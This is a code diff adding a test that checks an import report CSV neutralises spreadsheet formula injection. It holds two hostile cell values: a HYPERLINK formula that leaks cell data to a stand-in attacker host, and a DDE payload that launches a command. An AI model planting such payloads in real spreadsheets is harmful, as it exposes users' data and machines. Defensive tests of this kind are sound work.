@@ -2,6 +2,7 @@ import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import fs from 'node:fs';
 import { Readable } from 'node:stream';
 import ExcelJS from 'exceljs';
+import { parse as parseCsv } from 'csv-parse/sync';
 import { eq } from 'drizzle-orm';
 import { createTestApp, createUser, type TestApp, type TestUser } from '../../test/helper';
 import { listObjects } from '../../test/submission';
@@ -456,5 +457,37 @@ describe('bulk import', () => {
     // A failed import never runs again: its ZIP leaves the store and this machine.
     expect(listObjects(t)).not.toContain(zipKey);
     expect(fs.existsSync(localZipPath(again.id, zipKey))).toBe(false);
+  });
+});
+
+describe('the import report CSV (issue 33 item 5)', () => {
+  it('hands no formula back: a partner’s =HYPERLINK(…) reaches the admin defused, and reads back as sent', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+    // The sheet as an attacker writes it: the formula cell bare, not through the portal's writer.
+    const headers = ['Pattern ID', 'Pattern View', 'Size', 'Pattern PDF', 'Pattern Name'];
+    const sheet = Buffer.from(
+      `${headers.join(',')}\r\nEVIL-1,A,S,evil.pdf,"${formula.replace(/"/g, '""')}"\r\n` +
+        `EVIL-2,A,S,evil2.pdf,+cmd|' /C calc'!A0\r\n`,
+    );
+    const zip = await zipOf([
+      { name: 'evil.pdf', data: samplePdf() },
+      { name: 'evil2.pdf', data: samplePdf() },
+    ]);
+    const checked = await uploadAndCheck(t, partner, uploadForm(sheet, { zip }));
+    const admin = await createUser(t, { role: 'admin', brand: null });
+    const csv = await t.app.inject({
+      method: 'GET',
+      url: IMPORT_PATHS.reportOf(checked.id),
+      headers: admin.auth,
+    });
+    expect(csv.statusCode).toBe(200);
+    const cells = parseCsv(csv.body, { bom: true, relax_column_count: true }) as string[][];
+    const names = cells.slice(1).map((r) => r[4]);
+    expect(names).toEqual([`'${formula}`, "'+cmd|' /C calc'!A0"]);
+    for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    // Sent back to be fixed, the report reads as the partner's own cells.
+    const back: string[][] = [];
+    for await (const r of readSheet(Readable.from([csv.rawPayload]), 'csv')) back.push(r.cells);
+    expect(back.slice(1).map((r) => r[4])).toEqual([formula, "+cmd|' /C calc'!A0"]);
   });
 });
